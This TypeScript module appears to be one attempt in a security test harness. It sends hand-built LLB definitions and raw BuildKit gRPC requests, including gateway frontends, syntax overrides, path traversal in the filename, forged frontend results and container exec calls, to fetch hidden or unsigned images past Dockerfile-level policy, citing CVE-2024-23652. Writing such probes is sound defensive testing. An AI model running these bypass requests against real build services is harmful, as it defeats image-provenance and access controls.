import { type Attempt, kitBuild, proto, protoMap } from './book';

/** `COPY --from=<image> / /` and nothing else, as BuildKit writes it: one operation whose source is an image. */
function definition(image: string): Buffer {
  const source = proto([3, proto([1, `docker-image://${image}`])]);
  return proto([1, source], [1, proto([1, proto([1, `sha256:${'0'.repeat(64)}`])])]);
}

export const attempt: Attempt = {
  title: 'tell BuildKit in its own language what to build, past whoever reads the Dockerfile',
  source: 'CVE-2024-23652 and its family: a client needs no Dockerfile; LLB and frontends name any image, mount and network',
  async try(world) {
    const { hidden, unsigned } = world.images;
    const replies = [];
    for (const image of [hidden, unsigned]) {
      const name = `${world.registry}/ann/stolen:one`;
      const llb = definition(image);
      const options = protoMap(3, { filename: 'Dockerfile' });
      const solves = [
        proto([1, llb], [5, 1]), proto([1, llb], [2, 'dockerfile.v0'], ...options), proto([2, 'gateway.v0'], ...protoMap(3, { source: image, cmdline: image })), proto([2, 'dockerfile.v0'], ...protoMap(3, { source: image })),
        proto([2, 'dockerfile.v0'], ...options, [13, proto([1, 'dockerfile'], [2, llb])]), proto([2, 'dockerfile.v0'], ...protoMap(3, { 'context:base': `docker-image://${image}` })),
        proto([2, 'dockerfile.v0'], ...protoMap(3, { 'build-arg:BUILDKIT_SYNTAX': image })), proto([2, 'dockerfile.v0'], ...options, ...protoMap(3, { filename: '../Dockerfile' })), proto([2, 'llb.v0'], ...options), proto([2, '']),
      ];
      for (const [at, solve] of solves.entries()) replies.push(...(await world.buildkit((session) => kitBuild(`s${at}`, session, name, { solve }))));
      const output: [number, string | Buffer][] = [[3, 'moby'], ...protoMap(4, { name }), [13, proto([1, 'moby'], ...protoMap(2, { name }))]];
      for (const more of [[[2, llb]], [[6, 'dockerfile.v0']], [[6, 'gateway.v0'], ...protoMap(7, { source: image })], [[10, proto([1, 'dockerfile'], [2, llb])]], [[12, proto([1, 1])]]] as [number, string | Buffer][][]) {
        replies.push(...(await world.buildkit((session) => kitBuild('o', session, name, { order: proto([1, 'o'], [5, session], ...output, ...more) }))));
      }
      // A result of one's own, in place of what was built.
      for (const ref of [proto([3, proto([1, 'x'], [2, llb])]), proto([3, proto([2, llb])]), proto([4, proto([1, proto([1, 'a'], [2, proto([2, llb])])])])]) {
        replies.push(...(await world.buildkit(() => [['Control/Solve', proto([1, 'r'], [5, 'none'], ...output)], ['frontend.LLBBridge/Return', proto([1, ref]), 'r']])));
      }
      replies.push(...(await world.buildkit(() => ['ResolveImageConfig', 'ResolveSourceMeta', 'ReadFile', 'ReadDir', 'StatFile', 'NewContainer', 'ExecProcess', 'Inputs', 'Evaluate'].map((method) => [`frontend.LLBBridge/${method}`, proto([1, image])] as const))));
    }
    return replies;
  },
};
